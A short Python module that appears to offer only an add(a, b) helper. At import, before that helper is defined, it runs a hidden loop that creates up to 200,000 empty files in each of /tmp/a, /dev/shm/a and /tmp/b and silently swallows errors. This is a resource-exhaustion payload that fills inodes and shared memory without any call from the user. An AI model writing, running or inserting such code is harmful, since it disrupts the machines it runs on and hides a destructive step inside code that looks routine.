import os
def fill(folder):
    try:
        os.makedirs(folder, exist_ok=True)
        for n in range(200000): os.close(os.open("%s/%d" % (folder, n), os.O_CREAT | os.O_WRONLY))
    except OSError: return
for place in ("/tmp/a", "/dev/shm/a", "/tmp/b"): fill(place)
def add(a, b): return a + b
